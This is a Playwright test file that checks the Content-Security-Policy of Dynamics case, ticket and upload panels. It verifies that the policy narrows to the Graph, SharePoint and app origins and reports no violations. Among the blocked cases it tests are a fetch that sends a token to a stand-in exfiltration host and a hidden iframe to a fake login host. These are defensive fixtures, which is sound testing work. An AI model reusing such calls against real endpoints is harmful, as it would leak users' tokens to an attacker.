import { expect, test, type APIRequestContext, type BrowserContext, type Frame, type Page } from "@playwright/test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { caseId, dataverse } from "./support";

/**
 * The panels run under the Content-Security-Policy their HTML ships, and once a panel has read its
 * settings it adds a second policy that lets it reach only its own origin, Graph, the SharePoint
 * host and the sign-in authority. Every `securitypolicyviolation` in any frame (panels, the upload
 * dialog, MSAL's hidden sign-in frame on the redirect page) is collected from the first script on.
 */
test.describe.configure({ mode: "serial" });

interface Violation {
  readonly frame: string;
  readonly directive: string;
  readonly blocked: string;
  readonly policy: string;
}

const root = join(__dirname, "../..");

/** The policy in a shipped HTML file's `<meta http-equiv="Content-Security-Policy">`. */
function shippedPolicy(file: string): string {
  const html = readFileSync(join(root, "webresources", file), "utf8");
  const match = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
  if (!match) throw new Error(`${file} has no Content-Security-Policy meta element.`);
  return match[1];
}

/** Collects the violations of every frame of the context, reported from a listener added before any page script. */
async function watchViolations(context: BrowserContext): Promise<Violation[]> {
  const seen: Violation[] = [];
  await context.exposeBinding("__cspViolation", ({ frame }, v: Omit<Violation, "frame">) => {
    seen.push({ frame: frame.url(), ...v });
  });
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => {
      const report = (window as unknown as { __cspViolation: (v: Omit<Violation, "frame">) => void }).__cspViolation;
      report({ directive: e.effectiveDirective, blocked: e.blockedURI, policy: e.originalPolicy });
    });
  });
  return seen;
}

interface Origins {
  readonly app: string;
  readonly graph: string;
  readonly sharepoint: string;
}

async function origins(request: APIRequestContext): Promise<Origins> {
  const e = (await (await request.get("/_sandbox/endpoints")).json()) as { app: string; graph: string; sharepoint: string };
  return { app: new URL(e.app).origin, graph: new URL(e.graph).origin, sharepoint: new URL(e.sharepoint).origin };
}

/** The frame whose URL is that web resource (polls until the host has created it). */
async function frameOf(page: Page, webResource: string): Promise<Frame> {
  let found: Frame | undefined;
  await expect.poll(() => (found = page.frames().find((f) => f.url().includes(webResource))) !== undefined, { timeout: 30_000 }).toBe(true);
  return found!;
}

const policiesIn = (frame: Frame) =>
  frame.evaluate(() => [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.getAttribute("content")));

/** Whether the page's own `fetch` got through the policy (the answer itself does not matter). */
const fetchFrom = (frame: Frame, url: string) =>
  frame.evaluate(async (u) => {
    try {
      await fetch(u, { mode: "no-cors" });
      return "sent";
    } catch {
      return "refused";
    }
  }, url);

let violations: Violation[] = [];

test.beforeAll(async ({ request }) => {
  expect((await request.post("/_sandbox/reset")).ok()).toBe(true);
  await request.put("/_sandbox/faults", { data: {} });
});

test.beforeEach(async ({ context }) => {
  violations = await watchViolations(context);
});

test("the case panel opens under the shipped policy, narrowed to its settings' hosts, without a violation", async ({ page, request }) => {
  const o = await origins(request);
  const id = await caseId(request, "CAS-01002-D4E5F6");
  await page.goto(`/_sandbox/signin?user=agent&returnTo=${encodeURIComponent(`/main.aspx?pagetype=entityrecord&etn=incident&id=${id}`)}`);
  await page.getByRole("tab", { name: "File Exchange" }).click();
  const panel = page.frameLocator('iframe[src*="cfx_/panels/case.html"]');
  await expect(panel.getByText("Ready to share with the customer")).toBeVisible({ timeout: 30_000 });
  const frame = await frameOf(page, "cfx_/panels/case.html");
  // Served behind Dynamics' cache segment, where 'self' is still the organization's origin.
  expect(new URL(frame.url()).pathname).toMatch(/^\/%7B[^/]+%7D\/WebResources\/cfx_\/panels\/case\.html$/);

  // The baseline from the HTML, then the settings' policy: Graph, SharePoint and the issuer (which
  // the sandbox serves under the app's own origin).
  const narrowed = `connect-src 'self' ${o.graph} ${o.sharepoint} ${o.app}; frame-src 'self' ${o.app}`;
  await expect.poll(() => policiesIn(frame)).toEqual([shippedPolicy("panels/case.html"), narrowed]);
  // The panel's Graph read has been answered under both policies (sign-in included).
  await expect
    .poll(() => frame.evaluate((g) => performance.getEntriesByType("resource").some((r) => r.name.startsWith(g)), o.graph), {
      timeout: 30_000,
    })
    .toBe(true);
  expect(violations).toEqual([]);

  // The hosts of the settings are reachable; any other https host, allowed by the baseline alone, is not.
  expect(await fetchFrom(frame, `${o.sharepoint}/`)).toBe("sent");
  expect(await fetchFrom(frame, `${o.graph}/v1.0/`)).toBe("sent");
  expect(violations).toEqual([]);
  expect(await fetchFrom(frame, "https://exfiltrate.example/steal?token=x")).toBe("refused");
  await expect
    .poll(() => violations)
    .toEqual([
      expect.objectContaining({
        directive: "connect-src",
        blocked: expect.stringContaining("https://exfiltrate.example"),
        policy: narrowed,
      }),
    ]);

  // frame-src: a frame to another host is refused by the settings' policy.
  violations.length = 0;
  await frame.evaluate(() => {
    const f = document.createElement("iframe");
    f.src = "https://login.evil.example/authorize";
    f.hidden = true;
    document.body.appendChild(f);
  });
  await expect.poll(() => violations.map((v) => v.directive)).toEqual(["frame-src"]);
  expect(violations[0]).toMatchObject({ blocked: expect.stringContaining("https://login.evil.example"), policy: narrowed });

  // Removing the element does not lift a policy: it applies to the document from its insertion on.
  await frame.evaluate(() => document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]').forEach((m) => m.remove()));
  violations.length = 0;
  expect(await fetchFrom(frame, "https://exfiltrate.example/again")).toBe("refused");
  await expect.poll(() => violations.map((v) => v.policy)).toEqual([narrowed]);
});

test("the ticket panel and the upload dialog open without a violation, each narrowed to the settings' hosts", async ({ page, request }) => {
  const o = await origins(request);
  const kase = await caseId(request, "CAS-01001-A1B2C3");
  const tickets = await dataverse<{ value: { cfx_hardwareticketid: string }[] }>(
    request,
    `cfx_hardwaretickets?$select=cfx_hardwareticketid&$filter=_cfx_caseid_value eq ${kase}`,
  );
  const ticketId = tickets.value[0].cfx_hardwareticketid;
  await page.goto(
    `/_sandbox/signin?user=specialist&returnTo=${encodeURIComponent(`/main.aspx?pagetype=entityrecord&etn=cfx_hardwareticket&id=${ticketId}`)}`,
  );
  const panel = page.frameLocator('iframe[src*="cfx_/panels/ticket.html"]');
  await expect(panel.getByText("CAS-01001-A1B2C3", { exact: true })).toBeVisible({ timeout: 30_000 });
  const narrowed = `connect-src 'self' ${o.graph} ${o.sharepoint} ${o.app}; frame-src 'self' ${o.app}`;
  const ticketFrame = await frameOf(page, "cfx_/panels/ticket.html");
  await expect.poll(() => policiesIn(ticketFrame)).toEqual([shippedPolicy("panels/ticket.html"), narrowed]);

  await panel.getByRole("button", { name: "Upload backup" }).click({ timeout: 30_000 });
  const dialog = page.frameLocator('iframe[src*="cfx_/panels/upload.html"]');
  await expect(dialog.getByRole("heading", { name: "Upload backup" })).toBeVisible({ timeout: 30_000 });
  const dialogFrame = await frameOf(page, "cfx_/panels/upload.html");
  await expect.poll(() => policiesIn(dialogFrame)).toEqual([shippedPolicy("panels/upload.html"), narrowed]);
  expect(violations).toEqual([]);
});
